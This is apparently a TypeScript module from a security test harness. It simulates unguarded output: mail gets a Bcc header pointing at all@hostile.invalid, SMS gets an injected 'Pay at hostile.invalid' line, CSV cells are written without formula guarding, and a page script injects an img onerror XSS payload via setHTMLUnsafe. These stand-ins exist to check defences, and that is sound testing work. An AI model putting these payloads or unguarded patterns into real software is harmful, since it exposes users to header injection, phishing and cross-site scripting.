import type { Findings } from "../harness/proof.ts";
import type { HostileWord } from "./corpus.ts";
import { csvCells, judgeCells } from "./csv-cells.ts";
import type { Wire } from "./outgoing.ts";

/** A mail as it would come had a text with a line break stood in its subject unguarded, and an SMS with a line of the text's own. */
export const addHeader: Wire = (message) =>
  message.channel === "mail"
    ? { ...message, headers: { ...message.headers, bcc: "all@hostile.invalid" } }
    : message.channel === "sms"
      ? { ...message, text: `${message.text}\nPay at hostile.invalid` }
      : message;

/** The words as a table writes them that knows nothing of formulas. */
export function judgeUnguarded(words: readonly HostileWord[], findings: Findings): void {
  const cells = words.map(({ text }) => `"${text.replaceAll('"', '""')}"\r\n`);
  judgeCells("a table without a guard", csvCells(cells.join("")), findings);
}

/** Runs in a page before the app: a text is taken for markup there. */
export function believeTexts(): void {
  if (top !== globalThis.window) return; // not again in the frame that it makes
  addEventListener("load", () => {
    const place = document.body.appendChild(document.createElement("main"));
    place.setHTMLUnsafe("<img src=//hostile.invalid onerror=alert(2)><iframe></iframe>");
  });
}
